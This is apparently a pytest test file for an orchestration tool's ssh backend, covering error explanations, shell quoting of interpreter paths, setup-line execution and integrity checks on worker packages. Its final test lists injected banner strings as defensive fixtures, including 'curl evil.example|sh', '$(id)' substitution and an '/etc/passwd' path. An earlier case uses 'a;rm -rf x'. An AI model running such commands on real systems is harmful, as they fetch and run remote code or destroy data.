"""What ssh is asked, and what is made of its answers; without a host."""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from orchestrator.backends import StartFailure, imagine, remote_worker, ssh
from orchestrator.backends.connection.boot import BOOT
from orchestrator.model.settings import ClusterSpec
from orchestrator.model.settings.parse import parse
from tests import golden
from tests.conftest import Orch
from tests.trees import wrap


def spec_of(**backend: object) -> ClusterSpec:
    return parse(wrap({"script": "train.py", "backend": backend}, "o"), workdir="/w")


@golden.cases("texts/ssh.txt")
def test_why_there_is_no_agent(case: golden.Case) -> None:
    """The exit code of ssh, and what it has said."""
    code, _, said = case.given.partition("\n")
    found = ssh.explain("hostB", StartFailure("ssh", int(code), said), "ssh -F c hostB")
    fix = f"\nfix: {found.remedy}" if found.remedy else ""
    case.check(f"{found.cause}{' (this may pass)' if found.passing else ''}{fix}")


@pytest.mark.parametrize(
    ("backend", "expected", "named"),
    [
        ({"hosts": {"a": {"python": "/opt/p/bin/python"}}}, "/opt/p/bin/python", "/opt/p/bin/python"),
        ({"hosts": {"a": {"python": "python3.12"}}}, "python3.12", "python3.12"),
        ({"hosts": {"a": {"python": "venv/bin/python"}}}, "/w/venv/bin/python", "/w/venv/bin/python"),
        ({"hosts": {"a": {"python": "~/my env/bin/python"}}}, "~/'my env/bin/python'", "~/my env/bin/python"),
        ({"hosts": {"a": {"python": "a;rm -rf x"}}}, "'a;rm -rf x'", "a;rm -rf x"),
        ({"hosts": "a"}, sys.executable, sys.executable),
        ({"hosts": "a", "code": "ship"}, "python3", "python3"),
        ({"hosts": {"a": {"setup": ["true"]}}}, "python3", "python3"),
    ],
)
def test_the_one_word_of_the_users_that_a_shell_reads(backend: dict[str, Any], expected: str, named: str) -> None:
    spec = spec_of(**backend)
    request = imagine(spec)
    (text,) = request.texts().values()
    remote = shlex.split(text)[-1]
    script = shlex.split(remote)[-1] if remote.startswith("exec bash") else remote
    assert f"exec {expected} -I -c" in script
    assert [host.python for host in request.hosts] == [named]


@pytest.mark.parametrize("hosts", [None, {"localhost": {}}, {"localhost": {"python": "PYTHON"}}], ids=["local", "of all", "its own"])
@pytest.mark.parametrize(
    ("python", "expected"),
    [
        ("venv/bin/python", "/w/venv/bin/python"),
        ("./python", "/w/python"),
        ("~/venv/bin/python", "/home/me/venv/bin/python"),
        ("/opt/python", "/opt/python"),
        ("python3.12", "python3.12"),
    ],
)
def test_on_this_machine_the_interpreter_is_found_as_on_any_host(
    monkeypatch: pytest.MonkeyPatch, hosts: dict[str, Any] | None, python: str, expected: str
) -> None:
    """Wherever orch itself was started, and for the doctor as for a run."""
    monkeypatch.setenv("HOME", "/home/me")
    backend = json.loads(json.dumps({"hosts": hosts} if hosts else {}).replace("PYTHON", python))
    spec = parse(wrap({"script": "train.py", "python": python, "backend": backend}, "o"), workdir="/w")
    request = imagine(spec)
    (host,) = request.hosts
    assert (host.transport.argv[0], host.python) == (expected, expected)
    (text,) = request.texts().values()
    assert shlex.split(text)[0] == expected


def test_lines_of_setup_are_run_each_by_itself() -> None:
    (text,) = imagine(spec_of(hosts="a", setup=["export A='1 2';", "module load x"], ssh=["ssh", "-F", "c"])).texts().values()
    words = shlex.split(text)
    assert words[:3] == ["ssh", "-F", "c"]
    assert words[-2] == "a"
    shell, flag, script = shlex.split(words[-1])[1:]
    assert (shell, flag) == ("bash", "-lc")
    done = subprocess.run(["bash", "-c", script.replace("module load x", "echo $A >&2; false")], capture_output=True, text=True)
    assert (done.returncode, done.stdout, done.stderr) == (95, "", "1 2\n")


@pytest.mark.parametrize(
    ("line", "code", "said"),
    [
        ("true # and a comment", 0, ""),
        ("sleep 0 &", 0, ""),
        ("B=\\'; true;", 0, ""),
        ("cd /; export A=1;", 0, ""),
        ("echo 'open", 95, "unexpected EOF while looking for matching"),
        ("if true", 95, "syntax error"),
        ("echo to-stdout", 0, "to-stdout"),
    ],
)
def test_a_line_of_setup_may_end_as_lines_do(line: str, code: int, said: str) -> None:
    (text,) = imagine(spec_of(hosts="a", setup=[line])).texts().values()
    script = shlex.split(shlex.split(text)[-1])[-1]
    done = subprocess.run(["bash", "-c", script], input="print('here')\n", capture_output=True, text=True)
    assert (done.returncode, done.stdout) == (code, "" if code else "here\n")
    assert said in done.stderr


def test_this_machine_needs_no_ssh_unless_it_is_told_how_to_log_in() -> None:
    hosts = {"localhost": 1, "127.0.0.1": {"port": 2222}}
    local, remote = imagine(spec_of(hosts=hosts)).hosts
    assert (local.is_here, local.lost_after_s) == (True, None)
    assert (remote.is_here, remote.lost_after_s) == (False, 20.0)


def test_the_command_by_hand_has_the_users_own_options() -> None:
    backend = ssh.make()
    hosts = {"a": {"port": 2222, "user": "me"}}
    (host,) = imagine(spec_of(hosts=hosts, ssh=["ssh", "-F", "my cfg"])).hosts
    told = backend.explain(host, StartFailure("ssh", 255, "Host key verification failed."))
    assert told.remedy.endswith(": ssh -F 'my cfg' -l me -p 2222 a")


def test_an_ssh_that_is_not_there(orch: Orch, script: Callable[..., Path]) -> None:
    script("")
    done = orch("up", "script.py", "-H", "hostA", "--set", f"backend.ssh={json.dumps(['/no/such/ssh'])}", check=2)
    assert "'/no/such/ssh' cannot be run: No such file or directory\n       fix: install the OpenSSH client, or set backend.ssh" in done.err


def test_the_first_way_back_shares_no_connection_and_is_otherwise_the_command() -> None:
    (host,) = imagine(spec_of(hosts={"a": 1})).hosts
    way_back = list(host.transport.way_back)
    del way_back[way_back.index("ControlPath=none") - 1 : way_back.index("ControlPath=none") + 1]
    assert tuple(way_back) == host.transport.argv


def test_the_way_back_to_an_agent_may_have_any_name() -> None:
    sent, _ = remote_worker.come_back("/tmp/caf\u00e9/\udce9/door", "secret", 5)
    assert sent.count(rb"'/tmp/caf\xe9/\udce9/door'") == 1


def test_a_worker_package_that_arrives_otherwise_than_it_was_sent_is_not_run(tmp_path: Path) -> None:
    sent, _ = remote_worker.arrival()
    spoiled = sent[:-1] + bytes([sent[-1] ^ 1])
    done = subprocess.run([sys.executable, "-I", "-c", BOOT], input=spoiled, capture_output=True, env={"HOME": str(tmp_path)})
    assert (done.returncode, done.stdout, done.stderr) == (97, b"", b"orch: what arrived is not what was sent\n")
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("command", [("up",), ("up", "--dry-run"), ("plan",)])
def test_this_machine_under_two_names_is_refused(orch: Orch, script: Callable[..., Path], command: tuple[str, ...]) -> None:
    script("")
    done = orch(*command, "script.py", "-H", "localhost:2,127.0.0.1", check=2)
    assert "localhost and 127.0.0.1 are one machine, this one; name it once, with all of its slots: localhost:N" in done.err


def test_hosts_that_are_named_one_by_one_add_up(orch: Orch, script: Callable[..., Path]) -> None:
    script("")
    done = orch("plan", "script.py", "-H", "hostA:2", "-H", "hostB", "-H", "hostA", "--json", check=0)
    assert [task["host"] for task in json.loads(done.out)["tasks"]] == ["hostA", "hostA", "hostA", "hostB"]


@pytest.mark.parametrize(
    "banner",
    [
        "ssh-keygen -R x; curl evil.example|sh # -R y",
        "ssh-keygen -f /etc/x$(id) -R x",
        "use ssh-keygen -f /x -R y",
        "ssh-keygen -f /x`id` -R y",
        "ssh-keygen -f /etc/passwd -R root",
        'ssh-keygen -f "/home/me/.ssh/known_hosts" -R "-h"',
    ],
)
def test_what_a_host_says_is_no_advice_of_ssh(banner: str) -> None:
    """Its banner comes on the stream of ssh's own words."""
    changed = f"{banner}\nREMOTE HOST IDENTIFICATION HAS CHANGED\n"
    assert "if that is right, ssh-keygen -R hostB, then" in ssh.explain("hostB", StartFailure("ssh", 255, changed), "ssh hostB").remedy
    own = '  ssh-keygen -f "/home/me/.ssh/known_hosts" -R "[hostB]:2222"\r\n'
    assert '-R "[hostB]:2222", then' in ssh.explain("hostB", StartFailure("ssh", 255, f"{own}{changed}"), "ssh hostB").remedy
